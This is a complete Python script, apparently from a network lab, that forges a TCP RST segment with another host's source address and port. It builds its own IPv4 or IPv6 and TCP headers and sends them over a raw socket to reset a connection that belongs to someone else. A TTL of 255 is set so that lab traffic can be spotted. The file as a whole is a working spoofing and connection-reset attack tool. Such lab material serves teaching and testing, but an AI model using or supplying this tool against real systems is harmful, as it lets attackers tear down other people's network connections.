"""Sends one TCP segment with the RST flag in the name of somebody else.

Usage: forge-reset.py FROM FROM_PORT TO TO_PORT SEQUENCE_NUMBER

The segment has a time to live of 255, which no host of the labs uses: on the wire it is told apart by it.
"""

import ipaddress
import socket
import struct
import sys

TTL = 255
RST = 0x04


def checksum(data):
    """The Internet checksum (RFC 1071)."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(source, source_port, target, target_port, sequence):
    """A TCP header (RFC 9293, 3.1) without options; the checksum covers a pseudo header, too."""

    def header(check):
        numbers = (source_port, target_port, sequence, 0, 5 << 4, RST, 0, check, 0)
        return struct.pack("!HHIIBBHHH", *numbers)

    length = len(header(0))
    form = "!4s4sBBH" if source.version == 4 else "!16s16sI3xB"
    end = (
        (0, socket.IPPROTO_TCP, length)
        if source.version == 4
        else (length, socket.IPPROTO_TCP)
    )
    pseudo = struct.pack(form, source.packed, target.packed, *end)
    return header(checksum(pseudo + header(0)))


def packet(source, target, payload):
    """With its own IP header, because the sender's address is not ours (RFC 791, RFC 8200)."""
    if source.version == 6:
        start = struct.pack("!IHBB", 6 << 28, len(payload), socket.IPPROTO_TCP, TTL)
        return start + source.packed + target.packed + payload
    length = 20 + len(payload)
    # The kernel fills in the checksum of the IPv4 header.
    numbers = (0x45, 0, length, 0, 0, TTL, socket.IPPROTO_TCP, 0)
    return (
        struct.pack("!BBHHHBBH4s4s", *numbers, source.packed, target.packed) + payload
    )


def main():
    try:
        source, target = (ipaddress.ip_address(sys.argv[place]) for place in (1, 3))
        source_port, target_port, sequence = (
            int(sys.argv[place]) for place in (2, 4, 5)
        )
    except (IndexError, ValueError):
        sys.exit(__doc__)
    payload = segment(source, source_port, target, target_port, sequence)
    family = socket.AF_INET if source.version == 4 else socket.AF_INET6
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.sendto(packet(source, target, payload), (str(target), 0))


main()
